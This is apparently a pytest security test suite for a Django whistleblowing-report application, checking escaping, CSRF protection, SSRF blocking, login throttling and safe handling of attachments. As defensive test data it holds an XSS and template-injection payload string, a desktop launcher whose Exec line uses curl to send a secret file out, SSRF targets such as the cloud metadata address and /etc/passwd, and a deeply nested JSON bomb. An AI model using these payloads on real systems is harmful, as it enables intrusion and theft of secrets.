"""Holes of pages: scripts in what reporters write, forms sent by other sites, addresses that a server fetches."""

from __future__ import annotations

import ast
import re
import socket
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings as house
from django.test import Client

from mizan.framework.models import Evidence
from mizan.integrity.following import look_up
from mizan.integrity.models import Message, Report
from mizan.integrity.services import intake as intake_service
from mizan.integrity.services import reporter
from mizan.kit.actors import system
from mizan.sealing.context import Purpose
from mizan.sealing.messages import seal_message
from tests.cast import PASSWORD, Cast, sign_in
from tests.framework.cast import DAY
from tests.integrity.country import Country
from tests.integrity.desk import ABOUT_OFFICER, NARRATIVE
from tests.integrity.desk import sent as submitted
from tests.integrity.test_cleaned_copies import attach
from tests.integrity.test_desk_pages import Desk, body
from tests.integrity.walking import digits_of, followed, main_form, open_door, sent, walk
from tests.ledger.happening import happening
from tests.web.page_forms import Form, send
from tests.web.test_doors_promises import policy

ROOT = Path(__file__).parents[3]
SOURCE = ROOT / "src" / "mizan"
SCRIPT = "<script>alert('qoqnoos')</script>\"><img src=x onerror=alert(1)><svg/onload=alert(2)>{{ 7|add:7 }}"
DEEP = b'{"v":1,"text":' + b"[" * 60_000 + b"]" * 60_000 + b"}"
LAUNCHER = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://127.0.0.1/$(cat ~/.secret)'\nIcon=text\n"
# Pages of these rooms take what strangers and members write; the log's own tools talk to witnesses and mirrors.
TAKING = ("charts", "council", "framework", "institutions", "integrity", "kit", "places", "sealing")
CLIENTS = {"urllib.request", "http.client", "requests", "httpx", "aiohttp", "urllib3", "ftplib", "smtplib"}


@pytest.fixture
def door(country: Country, public: Client, monkeypatch: pytest.MonkeyPatch, settings: Any, tmp_path: Path) -> Client:
    settings.SEALED = tmp_path / "sealed"
    open_door(country, monkeypatch)
    return public


@pytest.fixture
def desk_of(country: Country, monkeypatch: pytest.MonkeyPatch, settings: Any, tmp_path: Path) -> Desk:
    settings.SEALED = tmp_path / "sealed"
    return Desk(country, monkeypatch)


def harmless(page: str) -> bool:
    """What was written stands on the page as text: no tag and no template command of it lives."""
    return "<script>alert" not in page and "<img src=x" not in page and "<svg/onload" not in page and "14}" not in page


def test_HL_376_what_a_reporter_writes_is_never_markup_at_the_readers_desk(desk_of: Desk) -> None:
    report = submitted(desk_of.country, ABOUT_OFFICER, SCRIPT)
    codeword = intake_service.give_codeword(system("intake", world="exercise"), report)
    view = look_up(codeword)
    reporter.write(system("reporter", world="exercise"), view, SCRIPT, on=desk_of.country.ground)
    client = desk_of.client("IA-1")
    answer = client.get(f"/inbox/{report.report}/")
    assert body(answer).count("&lt;script&gt;alert(&#x27;qoqnoos&#x27;)") == 2
    assert harmless(body(answer))
    assert harmless(body(client.get("/inbox/")))
    assert "'unsafe-inline'" not in answer["Content-Security-Policy"]


def test_HL_376_nor_at_the_door_where_the_reporter_reads_it_again(door: Client) -> None:
    check = walk(door, narrative=SCRIPT)
    back = send(door, main_form(check, "/report/send/", back="1"))
    again = send(door, main_form(back, "/report/safety/", back="1"))
    page = followed(door, digits_of(send(door, main_form(check, "/report/send/"))))
    page = send(door, main_form(page, "/report/follow/", verb="write", text=SCRIPT))
    for shown in (check, again, page, followed(door, SCRIPT)):
        assert harmless(body(shown))
    assert "&lt;script&gt;" in body(page)


def test_HL_376_no_template_marks_as_safe_what_a_person_wrote() -> None:
    """One mark stands in the house: charts, which are drawn by `charts.svg` and escaped there."""
    marked = [
        (file.relative_to(SOURCE).as_posix(), found)
        for file in SOURCE.rglob("*.html")
        for found in re.findall(r"\S+\|safe\b|autoescape off|\S+\|safeseq\b", file.read_text(encoding="utf-8"))
    ]
    assert marked == [("kit/templates/kit/chart.html", "svg=chart.svg|safe")]


def test_HL_376_no_flag_of_the_sender_turns_sealing_off(door: Client) -> None:
    flags = [("client_side_encrypted", "true"), ("encrypted", "1"), ("sealed", "true"), ("body", NARRATIVE)]
    form = main_form(walk(door, narrative=NARRATIVE), "/report/send/")
    assert send(door, Form(form.address, fields=[*form.fields, *flags])).status_code == 200
    kept = bytes(Report.objects.get().body)
    assert NARRATIVE.encode() not in kept
    assert len(kept) >= 1024


def test_HL_376_no_page_asks_another_host_for_anything(cast: Cast, desk: Callable[..., Client]) -> None:
    allowed = {"'none'", "'self'", "data:"}
    for address in ("/", "/seat/", "/keys/", "/actions/", "/account/login/"):
        answer = desk(cast.monitor).get(address)
        named = {source for sources in policy(answer).values() for source in sources.split()}
        assert named <= allowed, (address, named - allowed)
        assert not re.findall(r'(?:src|href|action)="(?:https?:)?//[^"]*\.(?:js|css|woff2?)"', body(answer))


def test_HL_1359_another_site_sends_no_form_of_the_desk(cast: Cast) -> None:
    client = Client(enforce_csrf_checks=True, headers={"origin": "https://evil.example"})
    sign_in(client, cast.coordinator)
    for address in (
        "/members/admit/",
        "/keys/begin/",
        "/account/password/change/",
        "/erasures/ask/",
        "/members/interests/",
    ):
        assert client.post(address, {"email": "x@evil.example"}).status_code == 403, address
    strict = ("SESSION_COOKIE_SAMESITE", "CSRF_COOKIE_SAMESITE")
    assert [getattr(house, name) for name in strict] == ["Strict", "Strict"]


def test_7ASEC_003_nobody_is_signed_out_by_a_link_or_by_another_site(cast: Cast, desk: Callable[..., Client]) -> None:
    signed_in = desk(cast.owner)
    assert signed_in.get("/account/logout/").status_code == 200
    assert signed_in.get("/seat/").status_code == 200
    crossed = Client(enforce_csrf_checks=True)
    crossed.cookies = signed_in.cookies
    assert crossed.post("/account/logout/", headers={"origin": "https://evil.example"}).status_code == 403
    assert signed_in.get("/seat/").status_code == 200


def test_HL_1359_the_public_door_has_no_session_that_another_site_could_use(door: Client) -> None:
    answer = sent(door)
    assert set(door.cookies) <= {"mizan_language"}
    assert not {one for one in house.MIDDLEWARE if "session" in one.lower() or "authentication" in one.lower()}
    assert answer.status_code == 200


def test_HL_1359_no_address_that_somebody_gives_is_fetched(
    door: Client, cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    reached: list[object] = []
    for name in ("connect", "connect_ex", "sendto"):
        monkeypatch.setattr(socket.socket, name, lambda _self, *given: reached.append(given))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **_more: reached.append(given) or [])
    inside = "http://169.254.169.254/latest/meta-data/"
    with happening():
        Evidence.objects.create(kind="law", captured_on=DAY, author_body_id=cast.owner.post.institution_id, url=inside)
    assert sent(door, narrative=f"See {inside} and file:///etc/passwd").status_code == 200
    assert reached == []


def test_HL_1359_no_room_that_takes_words_has_a_client_of_the_network() -> None:
    found = {
        (file.relative_to(SOURCE).as_posix(), name)
        for room in TAKING
        for file in (SOURCE / room).rglob("*.py")
        for name in imported(file) & CLIENTS
    }
    assert found == set()


def imported(file: Path) -> set[str]:
    """The modules that a file imports anywhere."""
    names: set[str] = set()
    for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
        if isinstance(node, ast.Import):
            names |= {one.name for one in node.names}
        elif isinstance(node, ast.ImportFrom) and node.module:
            names |= {node.module, *(f"{node.module}.{one.name}" for one in node.names)}
    return names


def test_HL_1359_a_flood_of_passwords_is_stopped_for_the_account_too(cast: Cast, desk: Callable[..., Client]) -> None:
    """From a new address each time; who knows the password then still has to wait."""
    for number in range(10):
        guess = {"login": cast.owner.user.email, "password": f"guess number {number}"}
        desk().post("/account/login/", guess, REMOTE_ADDR=f"10.0.0.{number + 1}")
    right = {"login": cast.owner.user.email, "password": PASSWORD}
    answer = desk().post("/account/login/", right, REMOTE_ADDR="10.0.1.1")
    assert answer.status_code != 302
    assert desk().post("/account/login/", {**right, "login": cast.monitor.user.email}).status_code == 302


def test_7ASEC_008_no_store_without_a_password_stands_beside_the_database() -> None:
    lines = [
        line for file in (ROOT / "requirements").iterdir() for line in file.read_text(encoding="utf-8").split("\n")
    ]
    assert lines
    assert not [line for line in lines if re.match(r"(django-)?(redis|valkey|pymemcache|pylibmc|celery|kombu)", line)]
    backends = [one["BACKEND"] for one in house.CACHES.values()]
    assert backends == ["django.core.cache.backends.locmem.LocMemCache"]
    assert getattr(house, "SESSION_ENGINE", "") == "django.contrib.sessions.backends.db"


def test_SD_2238_a_launcher_among_the_attachments_is_bytes_and_nothing_that_opens(desk_of: Desk) -> None:
    report, client = submitted(desk_of.country).report, desk_of.client("IA-1")
    attach(desk_of, report, LAUNCHER)
    answer = client.get(f"/inbox/{report}/files/1/")
    assert b"".join(answer.streaming_content) == LAUNCHER  # type: ignore[attr-defined]
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"] == 'attachment; filename="attachment-1.bin"'
    assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer["X-Content-Type-Options"] == "nosniff"
    copy = client.post(f"/inbox/{report}/files/1/cleaned/")
    assert copy["Content-Disposition"] == 'attachment; filename="cleaned-1.txt"'


def test_GL_5_0_15_json_nested_without_end_takes_no_reader_her_page(desk_of: Desk) -> None:
    """A message of the codeword's holder and the body of another report: both hold what breaks a reader's parser."""
    report = submitted(desk_of.country)
    view = look_up(intake_service.give_codeword(system("intake", world="exercise"), report))
    hostile = seal_message(view.newest, Purpose.FROM_REPORTER, 1, view.keys.signing, DEEP)
    with happening(view.report):
        Message.objects.create(report=view.report, purpose=2, number=1, sealed=hostile, written_on=DAY)
    client = desk_of.client("IA-1")
    answer = client.get(f"/inbox/{report.report}/")
    assert answer.status_code == 200
    assert NARRATIVE in body(answer)


def test_GL_5_0_15_a_report_that_cannot_be_read_hides_no_other(desk_of: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    with monkeypatch.context() as hostile:
        hostile.setattr(intake_service, "body_of", lambda _accusation, _narrative: DEEP)
        submitted(desk_of.country)
    good = submitted(desk_of.country).report
    assert good in {one.report.pk for one in desk_of.officers["IA-1"].inbox(desk_of.country.ground)}
    assert desk_of.client("IA-1").get("/inbox/").status_code == 200
